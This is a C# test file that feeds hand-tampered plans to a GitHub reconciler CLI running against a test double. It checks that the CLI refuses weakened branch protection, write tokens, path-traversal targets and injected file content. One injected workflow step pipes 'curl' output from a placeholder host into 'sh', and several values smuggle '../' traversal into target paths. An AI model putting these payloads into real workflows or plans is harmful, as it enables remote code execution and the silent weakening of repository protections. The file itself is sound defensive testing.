using System.Diagnostics;
using System.Text.Json;
using System.Text.Json.Nodes;
using Reconciler.Cli;
using Reconciler.Core.Hosts.GitHub;
using Reconciler.GitHubDouble;
using Reconciler.GitHubDouble.State;
using GitHub = Reconciler.GitHubDouble.GitHubDouble;

namespace Reconciler.HostileCorpus.Cases;

/// <summary>
/// Issue items 8–10: a saved plan edited by hand, applied to our GitHub double. The org holds <c>victim</c> (the
/// python sample) and <c>neighbour</c> (the java sample), both with protected main; each case plans, edits the victim's
/// entry, applies the file with <c>--yes</c> and then reads the double: any write the policy wouldn't make is harm,
/// and the neighbour must still get its pull request. The CLI runs in this process with pacing that doesn't sleep
/// (GitHub's one-second spacing between writes would make each case take half a minute); peak memory isn't measured.
/// </summary>
public static class TamperedPlanCases
{
    public const string Category = "tampered-plan";

    private const string Org = "acme";
    private const string Branch = "reconcile/sdk-publish-hardening";
    private const string Marker = "TAMPERED-9c2e";

    private sealed record Tamper(string Name, Action<JsonArray, JsonObject> Edit, Func<GitHub, string?> Harm);

    private static readonly Tamper[] Tampers =
    [
        new("untampered-control", (_, _) => { }, gh => PullRequest(gh, "victim") ? null : "the untouched plan opened no pull request for victim"),
        new("protection-weakened", (_, v) => Changes(v).Add(Setting("branch-protection:main", WeakProtection())), gh => Weakened(gh, "victim")),
        new("protection-desired-replaced", (_, v) => ReplaceDesired(v, "branch-protection:", WeakProtection()), gh => Weakened(gh, "victim")),
        new("environment-any-branch", (_, v) => ReplaceDesired(v, "environment:pypi-production", new JsonObject { ["deployment_branch_policy"] = null }),
            gh => gh.GetEnvironment(Org, "victim", "pypi-production") is { BranchPolicy: null } ? "pypi-production lets any branch deploy" : null),
        new("branch-policy-deleted", (_, v) => Changes(v).Add(Setting("environment:docs-preview/deployment-branch-policy:main", null, "delete")),
            gh => gh.GetEnvironment(Org, "victim", "docs-preview")?.Policies.Any(p => p.Name == "main") == false ? "deleted the docs-preview branch policy" : null),
        new("token-write", (_, v) => Changes(v).Add(Setting("actions:workflow-permissions", new JsonObject { ["default_workflow_permissions"] = "write", ["can_approve_pull_request_reviews"] = true })),
            gh => gh.GetWorkflowPermissions(Org, "victim").DefaultWorkflowPermissions == "write" ? "default token turned to write" : null),
        new("target-dotdot-protection", (_, v) => Changes(v).Add(Setting("branch-protection:../../neighbour/branches/main", WeakProtection())), gh => Weakened(gh, "neighbour")),
        new("target-dotdot-environment", (_, v) => Changes(v).Add(Setting("environment:../../../neighbour/environments/evil", new JsonObject(), "create")),
            gh => gh.GetEnvironment(Org, "neighbour", "evil") is not null ? "created an environment in neighbour" : null),
        new("file-dotdot", (_, v) => Changes(v).Add(File(".github/actions/../../src/action.yml", Marker)), gh => FileOnBranch(gh, "victim", "src/action.yml")),
        new("file-not-allowed", (_, v) => Changes(v).Add(File("README.md", Marker)), gh => FileOnBranch(gh, "victim", "README.md")),
        new("file-content-edited", (_, v) => EditContent(v), gh => MarkerOnBranch(gh, "victim")),
        new("explanations-edited", (_, v) => Files(v).First()["explanations"] = new JsonArray(Marker + ": nothing to review"),
            gh => gh.GetPullRequests(Org, "victim").Any(p => p.Body?.Contains(Marker, StringComparison.Ordinal) == true) ? "the pull request body repeats the plan's own explanations" : null),
        new("headSha-missing", (_, v) => v.Remove("headSha"), gh => PullRequest(gh, "victim") ? "applied a repository with no headSha (the branch-moved check skipped)" : null),
        new("defaultBranch-missing", (_, v) => v.Remove("defaultBranch"), gh => PullRequest(gh, "victim") ? "applied a repository with no defaultBranch" : null),
        new("duplicate-entry", (repos, v) => repos.Add(v.DeepClone()), gh => PullRequest(gh, "victim") ? "applied a repository listed twice" : null),
        new("status-edited", (_, v) => v["status"] = "skipped", gh => PullRequest(gh, "victim") ? "applied an entry whose status says skipped" : null),
    ];

    public static IEnumerable<HostileCase> All() => Tampers.Select(t => new HostileCase($"tampered-plan/{t.Name}", Category, "8-10", f => new Invocation([])
    {
        InProcess = ct => RunAsync(f, t, ct),
    }, Expect.NeighbourPlanned, (_, o) => o.Stdout.Contains("\"harm\"", StringComparison.Ordinal) ? JsonNode.Parse(o.Stdout)!["harm"]!.GetValue<string>() : null));

    private static async Task<Outcome> RunAsync(CaseFolder f, Tamper tamper, CancellationToken ct)
    {
        var clock = Stopwatch.StartNew();
        await using var gh = await GitHub.StartAsync(cancellationToken: ct);
        gh.AddOrg(Org);
        foreach (var (name, sample) in new[] { ("victim", "acme-python"), ("neighbour", "acme-java") })
        {
            var dir = Path.Combine(f.Corpus.Examples, sample);
            var files = Directory.EnumerateFiles(dir, "*", SearchOption.AllDirectories)
                .ToDictionary(p => Path.GetRelativePath(dir, p).Replace('\\', '/'), System.IO.File.ReadAllText, StringComparer.Ordinal);
            gh.AddRepo(Org, name, new RepoSeed { Files = files });
            gh.SetBranchProtection(Org, name, "main", new ProtectionState
            {
                RequiredPullRequestReviews = new JsonObject { ["required_approving_review_count"] = 1, ["dismiss_stale_reviews"] = true },
            });
        }

        gh.AddEnvironment(Org, "victim", "docs-preview", new EnvironmentSeed { BranchPolicy = (false, true), Policies = [("main", "branch")] });
        var context = new CliContext
        {
            Environment = n => n == "GITHUB_TOKEN" ? gh.DefaultToken : null,
            IsInteractive = false,
            Input = new StringReader(""),
            Pacing = _ => new GitHubPacing { Delay = (_, _) => Task.CompletedTask },
        };
        var planFile = Path.Combine(f.Dir, "plan.json");
        var stdout = new StringWriter();
        var stderr = new StringWriter();
        int exit;
        try
        {
            exit = await CliApp.RunAsync(["plan", "--org", Org, "--api-url", gh.BaseUri.AbsoluteUri, "-o", planFile], stdout, new StringWriter(), context);
            var plan = JsonNode.Parse(await System.IO.File.ReadAllTextAsync(planFile, ct))!.AsObject();
            var repos = plan["repositories"]!.AsArray();
            var victim = repos.Select(r => r!.AsObject()).Single(r => r["repository"]!.GetValue<string>() == Org + "/victim");
            tamper.Edit(repos, victim);
            await System.IO.File.WriteAllTextAsync(planFile, plan.ToJsonString(new JsonSerializerOptions { WriteIndented = true }), ct);
            stdout = new StringWriter();
            exit = await CliApp.RunAsync(["apply", planFile, "--yes", "--no-color", "--api-url", gh.BaseUri.AbsoluteUri], stdout, stderr, context);
        }
        catch (Exception ex) when (ex is not OperationCanceledException)
        {
            return new Outcome(-1, "", stderr + "\nUnhandled exception: " + ex, clock.Elapsed, 0, false, false);
        }

        // What the double holds now, in the shape the verdicts read: the neighbour "planned" when it got its pull request.
        var summary = new JsonObject
        {
            ["repositories"] = new JsonArray(new JsonObject { ["repository"] = "neighbour", ["status"] = PullRequest(gh, "neighbour") ? "drift" : "not-applied" }),
        };
        if (tamper.Harm(gh) is { } harm)
        {
            summary["harm"] = harm;
        }

        return new Outcome(exit, summary.ToJsonString(), stderr.ToString(), clock.Elapsed, 0, false, false);
    }

    private static JsonArray Changes(JsonObject repo) => repo["changes"] as JsonArray ?? (JsonArray)(repo["changes"] = new JsonArray());

    private static IEnumerable<JsonObject> Files(JsonObject repo) => Changes(repo).Select(c => c!.AsObject()).Where(c => c["kind"]?.GetValue<string>() == "file");

    private static JsonObject Setting(string target, JsonNode? desired, string action = "update") => new()
    {
        ["kind"] = "setting",
        ["target"] = target,
        ["action"] = action,
        ["current"] = null,
        ["desired"] = desired,
        ["reason"] = "tampered",
        ["rules"] = new JsonArray("branch-protection"),
    };

    private static JsonObject File(string path, string content) => new()
    {
        ["kind"] = "file",
        ["path"] = path,
        ["action"] = "create",
        ["content"] = content,
        ["diff"] = "",
        ["explanations"] = new JsonArray("tampered"),
        ["rules"] = new JsonArray("pinned-actions"),
    };

    private static JsonObject WeakProtection() => new()
    {
        ["required_status_checks"] = null,
        ["enforce_admins"] = false,
        ["required_pull_request_reviews"] = null,
        ["restrictions"] = null,
        ["allow_force_pushes"] = true,
        ["allow_deletions"] = true,
    };

    /// <summary>Replaces the desired body of the victim's first setting change whose target starts so; adds one when there is none.</summary>
    private static void ReplaceDesired(JsonObject repo, string targetPrefix, JsonObject desired)
    {
        var change = Changes(repo).Select(c => c!.AsObject()).FirstOrDefault(c => c["target"]?.GetValue<string>().StartsWith(targetPrefix, StringComparison.Ordinal) == true);
        if (change is null)
        {
            Changes(repo).Add(Setting(targetPrefix.TrimEnd(':') + (targetPrefix.EndsWith(':') ? ":main" : ""), desired, "create"));
            return;
        }

        change["desired"] = desired;
    }

    private static void EditContent(JsonObject repo)
    {
        var file = Files(repo).First(c => c["path"]!.GetValue<string>().StartsWith(".github/workflows/", StringComparison.Ordinal));
        file["content"] = file["content"]!.GetValue<string>() + $"\n  evil:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://example.invalid/{Marker} | sh\n";
    }

    private static bool PullRequest(GitHub gh, string repo) => gh.GetPullRequests(Org, repo).Any(p => p.Head.EndsWith(Branch, StringComparison.Ordinal));

    private static string? Weakened(GitHub gh, string repo) => gh.GetBranchProtection(Org, repo, "main") switch
    {
        null => $"{repo}: protection of main removed",
        { AllowForcePushes: true } => $"{repo}: force pushes to main allowed",
        { RequiredPullRequestReviews: null } => $"{repo}: reviews on main turned off",
        _ => null,
    };

    /// <summary>Every branch of the repository (ours, the default, any other): a tampered plan must write none of them.</summary>
    private static IEnumerable<string> Branches(GitHub gh, string repo) =>
        gh.GetRefs(Org, repo).Keys.Where(r => r.StartsWith("refs/heads/", StringComparison.Ordinal)).Select(r => r["refs/heads/".Length..]);

    private static string? FileOnBranch(GitHub gh, string repo, string path) =>
        Branches(gh, repo).FirstOrDefault(b => gh.ReadFile(Org, repo, path, b) is not null) is { } branch ? $"wrote {path} on {branch}" : null;

    private static string? MarkerOnBranch(GitHub gh, string repo) =>
        Branches(gh, repo).FirstOrDefault(b => gh.ReadTree(Org, repo, b).Values.Any(t => t.Contains(Marker, StringComparison.Ordinal))) is { } branch
            ? $"committed the edited content on {branch}"
            : null;
}
